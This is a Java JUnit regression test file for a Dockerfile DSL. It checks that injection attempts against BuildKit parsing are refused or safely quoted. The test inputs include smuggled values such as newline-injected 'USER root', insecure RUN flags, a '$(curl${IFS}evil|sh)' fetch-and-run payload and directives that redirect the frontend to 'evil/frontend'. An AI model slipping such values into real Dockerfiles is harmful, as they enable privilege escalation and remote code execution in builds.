package io.github.dockerdsl.render;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.github.dockerdsl.Dockerfile;
import io.github.dockerdsl.Stage;
import io.github.dockerdsl.image.ImageRef;
import io.github.dockerdsl.instruction.Add;
import io.github.dockerdsl.instruction.Command;
import io.github.dockerdsl.instruction.Copy;
import io.github.dockerdsl.instruction.Heredoc;
import io.github.dockerdsl.instruction.Instruction;
import io.github.dockerdsl.instruction.Raw;
import io.github.dockerdsl.instruction.Run;
import io.github.dockerdsl.instruction.UserSpec;
import io.github.dockerdsl.instruction.Workdir;
import io.github.dockerdsl.mount.CacheMount;
import io.github.dockerdsl.rule.Policy;
import java.nio.file.Path;
import java.util.List;
import java.util.Optional;
import java.util.function.Consumer;
import org.assertj.core.api.ThrowableAssert.ThrowingCallable;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The seven injections BuildKit's own parser found in our output (issue 17), each with the value
 * that broke out and what the model now does with it: refuse with a message that names the
 * argument, quotes it and says how to write it, or render it where BuildKit reads it exactly.
 */
class InjectionRegressionTest {

  /** {@code S = Stage.from("alpine:3.20")}, the instruction, then a USER: built with Policy.none(). */
  private static String render(Consumer<Stage.Builder> body) {
    Stage.Builder s = Stage.from("alpine:3.20");
    body.accept(s);
    return Dockerfile.builder().stage(s.user("10001").build()).build(Policy.none()).toString();
  }

  private static String render(Instruction i) {
    return render(s -> s.instruction(i));
  }

  private static void refused(ThrowingCallable call, String message) {
    assertThatThrownBy(call).isInstanceOf(IllegalArgumentException.class).hasMessage(message);
  }

  @Nested
  class VariableDefaultsInImageReferences {
    @Test
    void a_line_break_in_a_default_is_refused() {
      refused(() -> Stage.from("alpine:${X:-\nUSER root}"),
          "image reference 'alpine:${X:-\\nUSER root}' has a '$' that is not a whole variable reference; "
              + "write $NAME, ${NAME} or ${NAME:-default} with a default of letters, digits, '.', '_' and '-'");
    }

    @Test
    void a_space_in_a_default_is_refused_through_every_way_in() {
      String message = "image reference 'alpine:${X:-a b}' has a '$' that is not a whole variable reference; "
          + "write $NAME, ${NAME} or ${NAME:-default} with a default of letters, digits, '.', '_' and '-'";
      refused(() -> ImageRef.parse("alpine").withTag("${X:-a b}"), message);
      refused(() -> Copy.of("a", "/a").withFrom(ImageRef.parse("alpine:${X:-a b}")), message);
      refused(() -> ImageRef.parse("alpine:3.20").withRegistry(Optional.of("${R:-\nUSER root}")),
          "image reference '${R:-\\nUSER root}/alpine:3.20' has a '$' that is not a whole variable reference; "
              + "write $NAME, ${NAME} or ${NAME:-default} with a default of letters, digits, '.', '_' and '-'");
    }

    @Test
    void plain_defaults_still_render() {
      assertThat(render(s -> {})).isEqualTo("FROM alpine:3.20\nUSER 10001\n");
      assertThat(Stage.from("node:${NODE:-20.1}-slim").build().toString()).isEqualTo("FROM node:${NODE:-20.1}-slim\n");
    }
  }

  @Nested
  class HeredocsHiddenByTheirLine {
    @Test
    void an_unparseable_dollar_in_a_destination() {
      refused(() -> render(Copy.heredoc(Heredoc.of("EOF", "USER root"), "/x${")),
          "COPY destination '/x${' cannot be expanded by BuildKit (syntax error: missing '}'); write variables as "
              + "$NAME or ${NAME}, and leave out quotes and unbalanced braces");
    }

    @Test
    void an_unbalanced_quote_on_the_command_line() {
      refused(() -> Command.heredocs("cat <<EOF '", Heredoc.of("EOF", "USER root")),
          "heredoc command line 'cat <<EOF '' cannot be read by BuildKit (unexpected end of statement while looking "
              + "for matching single-quote), which then finds no heredoc and reads the document's lines as "
              + "instructions; close the quote, or write '${NAME}' in full");
    }

    @Test
    void an_exclude_an_owner_and_a_mount_target_on_the_line() {
      refused(() -> Copy.heredoc(Heredoc.of("EOF", "USER root"), "/x").withExcludes("${"),
          "exclude pattern '${' has a '$' BuildKit cannot read (syntax error: missing '}'); write variables as "
              + "$NAME or ${NAME}");
      refused(() -> UserSpec.parse("${UID"),
          "user '${UID' is not a valid user or group; use a name such as 'app' or a numeric id such as 10001");
      refused(() -> Run.of(Command.heredoc(Heredoc.of("EOF", "USER root"))).withMount(CacheMount.of("/c${#X}")),
          "mount option target '/c${#X}' has a '$' BuildKit cannot read (unsupported modifier (X) in substitution); "
              + "write variables as $NAME or ${NAME}");
    }

    @Test
    void a_heredoc_with_a_variable_on_its_line_still_renders() {
      assertThat(render(Run.of(Command.heredocs("cat <<EOF > ${HOME}/x", Heredoc.of("EOF", "USER root")))))
          .isEqualTo("FROM alpine:3.20\nRUN cat <<EOF > ${HOME}/x\nUSER root\nEOF\nUSER 10001\n");
    }
  }

  @Nested
  class HeredocMarkersInDestinations {
    @Test
    void a_marker_like_destination_is_written_in_json_form() {
      assertThat(render(s -> s.copy("a", "1<<EOF"))).isEqualTo("FROM alpine:3.20\nCOPY [\"a\", \"1<<EOF\"]\nUSER 10001\n");
      assertThat(render(Add.of("a.tgz", "0<<X"))).isEqualTo("FROM alpine:3.20\nADD [\"a.tgz\", \"0<<X\"]\nUSER 10001\n");
    }

    @Test
    void beside_an_inline_document_it_is_refused() {
      refused(() -> render(Copy.heredoc(Heredoc.of("EOF", "x"), "1<<EOF")),
          "COPY of an inline document to '1<<EOF' has a path that needs quoting, which the heredoc form cannot hold; "
              + "copy that path in its own COPY");
    }
  }

  @Nested
  class LeadingDashesBecomingFlags {
    private static final String RUN_FLAG = "shell command '--network=host --security=insecure curl x' starts with "
        + "'--', which BuildKit reads as a flag of RUN; start the command with the program to run";

    @Test
    void a_shell_command_through_every_way_in() {
      refused(() -> render(s -> s.run("--network=host --security=insecure curl x")), RUN_FLAG);
      refused(() -> Command.shellLines(List.of("--network=host --security=insecure curl x", "&& y")), RUN_FLAG);
      refused(() -> Command.allOf("--network=host --security=insecure curl x"), RUN_FLAG);
      refused(() -> render(s -> s.onBuild(Run.shell("--network=host --security=insecure curl x"))), RUN_FLAG);
      refused(() -> Command.heredocs("--network=host <<EOF", Heredoc.of("EOF", "x")),
          "heredoc command line '--network=host <<EOF' starts with '--', which BuildKit reads as a flag of RUN; "
              + "start the command with the program to run");
    }

    @Test
    void paths_are_written_in_json_form() {
      assertThat(render(Copy.of(List.of("--from=alpine", "/etc/passwd"), "/x/")))
          .isEqualTo("FROM alpine:3.20\nCOPY [\"--from=alpine\", \"/etc/passwd\", \"/x/\"]\nUSER 10001\n");
      assertThat(render(Add.of("--chown=0 a.tgz", "/d")))
          .isEqualTo("FROM alpine:3.20\nADD [\"--chown=0 a.tgz\", \"/d\"]\nUSER 10001\n");
      Stage build = Stage.from("alpine:3.20").as("build").build();
      assertThat(Stage.from("alpine:3.20").copyFrom(build, "--link", "/x").build().toString())
          .isEqualTo("FROM alpine:3.20\nCOPY --from=build [\"--link\", \"/x\"]\n");
    }

    @Test
    void a_workdir_is_refused() {
      refused(() -> Workdir.of("--x"), "WORKDIR path '--x' starts with '--', which BuildKit reads as a flag; write './--x'");
    }
  }

  @Nested
  class NonAsciiInFlags {
    @Test
    void a_mount_option_holding_the_byte_0xA0() {
      refused(() -> CacheMount.of("/cache\u00e0$(curl${IFS}evil|sh)"),
          "mount option target '/cache\u00e0$(curl${IFS}evil|sh)' contains the non-ASCII character '\u00e0', which "
              + "BuildKit reads byte by byte in a --mount flag and garbles or splits; use ASCII in mount options");
    }

    @Test
    void an_exclude_holding_the_byte_0x85() {
      refused(() -> Copy.of("a", "/d").withExcludes("*.\u00c5--from=evil:1"),
          "exclude pattern '*.\u00c5--from=evil:1' contains a non-ASCII character, which BuildKit reads byte by byte "
              + "in a flag and garbles or splits; use '?' or '*' in its place");
    }
  }

  @Nested
  class UnicodeSpaceLines {
    @Test
    void a_line_of_no_break_spaces_is_blank() {
      refused(() -> Command.shellLines(List.of("make", "\u00a0")),
          "shell command line 2 is blank; empty continuation lines are deprecated, remove it");
      refused(() -> Command.shellLines(List.of("make", "\u2007\u202f", "&& x")),
          "shell command line 2 is blank; empty continuation lines are deprecated, remove it");
    }

    @Test
    void a_comment_after_unicode_spaces_is_a_comment() {
      refused(() -> Command.shellLines(List.of("make", "\u00a0# note")),
          "shell command line '\u00a0# note' starts with '#', which Docker reads as a comment and drops; "
              + "move the comment out of the command");
    }
  }

  @Nested
  class DirectivesFromTheFirstComment {
    private String header(String... comments) {
      Dockerfile.Builder b = Dockerfile.builder();
      for (String c : comments) {
        b.comment(c);
      }
      return b.stage(Stage.from("alpine:3.20").build()).build(Policy.none()).toString();
    }

    private String message(String comment) {
      return "comment '" + comment + "' at the top of the file would be read as a parser directive; set directives "
          + "with Dockerfile.builder().syntax(...)/escape(...)/check(...), or reword it";
    }

    @Test
    void unicode_spaces_before_the_directive() {
      refused(() -> header("\u00a0syntax=evil/frontend"), message("\u00a0syntax=evil/frontend"));
      refused(() -> header("\u3000escape=`"), message("\u3000escape=`"));
    }

    @Test
    void a_line_separator_in_the_value() {
      refused(() -> header("syntax=evil\u2028/frontend"), message("syntax=evil\\u2028/frontend"));
    }

    @Test
    void a_directive_on_a_later_line_of_the_first_comment() {
      refused(() -> header("syntax=docker/dockerfile:1\nsyntax=evil/frontend"),
          message("syntax=docker/dockerfile:1\\nsyntax=evil/frontend"));
      // '#!' is never written, so BuildKit's frontend never skips a first line as a shebang
      assertThat(header("!/bin/true", "syntax=evil/frontend")).startsWith("# !/bin/true\n# syntax=evil/frontend\n");
    }

    @Test
    void other_first_comments_render() {
      assertThat(header("syntax is chosen by the CI")).startsWith("# syntax is chosen by the CI\n");
    }
  }

  @Nested
  class NotInjectionButStillWrong {
    @Test
    void backslashes_buildkit_would_consume_in_a_path() {
      refused(() -> render(s -> s.workdir("C:\\app")),
          "WORKDIR path 'C:\\app' would be read by BuildKit as 'C:app', since it expands quotes and the escape "
              + "character '\\' in it; leave out quotes, and use '/' in paths or switch the escape character with "
              + "Dockerfile.builder().escape(...)");
      assertThat(Dockerfile.builder().escape('`').stage(Stage.from("alpine:3.20").workdir("C:\\app").build())
          .build(Policy.none()).toString()).isEqualTo("# escape=`\n\nFROM alpine:3.20\nWORKDIR C:\\app\n");
    }

    @Test
    void quotes_in_a_volume() {
      refused(() -> render(s -> s.volume("/a'b")),
          "VOLUME path '/a'b' cannot be expanded by BuildKit (unexpected end of statement while looking for "
              + "matching single-quote); write variables as $NAME or ${NAME}, and leave out quotes and unbalanced "
              + "braces");
    }

    @Test
    void an_unparseable_dollar_in_an_env_value() {
      refused(() -> render(s -> s.env("K", "a${b")),
          "ENV value of 'K' 'a${b' cannot be expanded by BuildKit (syntax error: missing '}'); write variables as "
              + "$NAME or ${NAME}, and leave out quotes and unbalanced braces");
    }

    @Test
    void a_shell_command_that_is_a_json_array() {
      refused(() -> Command.shell("[\"sh\", \"-c\", \"id\"]"),
          "shell command '[\"sh\", \"-c\", \"id\"]' is a JSON array, which BuildKit reads as exec form; use "
              + "Command.exec(...) for an argument vector");
      assertThat(Command.shell("[ -f /etc/x ]").lines()).containsExactly("[ -f /etc/x ]");
    }

    @Test
    void leading_and_trailing_whitespace_of_a_shell_command() {
      refused(() -> Command.shell(" make"), "shell command ' make' starts with whitespace, which BuildKit drops; remove it");
      refused(() -> Command.shell("make\u00a0"), "shell command 'make\u00a0' ends with whitespace, which BuildKit drops; "
          + "remove it");
    }

    @Test
    void lines_over_64_kib() {
      String big = "a".repeat(65_536);
      refused(() -> render(s -> s.env("K", big)),
          "ENV instruction has a line 'ENV K=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa...' of 65542 bytes in UTF-8, more than "
              + "the 65535 BuildKit reads; split the value, or copy it in as a file");
      assertThat(render(s -> s.env("K", "a".repeat(65_529)))).contains("ENV K=a");
    }

    @Test
    void unpaired_surrogates(@TempDir Path dir) {
      refused(() -> render(s -> s.env("K", "a\ud800")),
          "ENV instruction 'ENV K=a\\ud800' contains the unpaired surrogate U+D800, which UTF-8 cannot encode; "
              + "pass whole characters");
      assertThat(render(s -> s.env("K", "\ud83d\ude00"))).contains("ENV K=\ud83d\ude00\n");
    }

    @Test
    void comments_and_waivers_that_would_not_read_back() {
      refused(() -> render(s -> s.comment("dockerdsl:suppress DF001 -- x")),
          "comment line 'dockerdsl:suppress DF001 -- x' is read back as a waiver; use suppress(rule, reason) for "
              + "waivers, or reword it");
      refused(() -> render(s -> s.comment("trailing ")),
          "comment line 'trailing ' ends with whitespace, which parsers drop; remove it");
      refused(() -> render(s -> s.run("true").suppress(io.github.dockerdsl.rule.Rules.NON_ROOT_FINAL_USER, "why\u00a0")),
          "suppression reason 'why\u00a0' has leading or trailing whitespace, which is lost when it is read back; "
              + "remove it");
      refused(() -> render(s -> s.run("true").suppress(io.github.dockerdsl.rule.Rules.NON_ROOT_FINAL_USER, "a\u2028b")),
          "suppression reason 'a\\u2028b' contains a line separator, which is lost when it is read back; write the "
              + "reason on one line");
    }

    @Test
    void a_backslash_in_a_flag_under_the_backtick_escape_reads_back() {
      Dockerfile d = Dockerfile.builder().escape('`')
          .stage(Stage.from("alpine:3.20").run(Run.shell("x").withMount(CacheMount.of("C:\\cache"))).build())
          .build(Policy.none());
      assertThat(io.github.dockerdsl.parse.DockerfileParser.parse(d.toString()).dockerfile()).isEqualTo(d);
    }

    @Test
    void a_raw_instruction_with_an_unknown_keyword() {
      refused(() -> Raw.of("FROBNICATE x"),
          "raw instruction 'FROBNICATE x' starts with 'FROBNICATE', which is not a Dockerfile instruction; BuildKit "
              + "and our parser refuse it, write a keyword such as MAINTAINER");
    }
  }
}
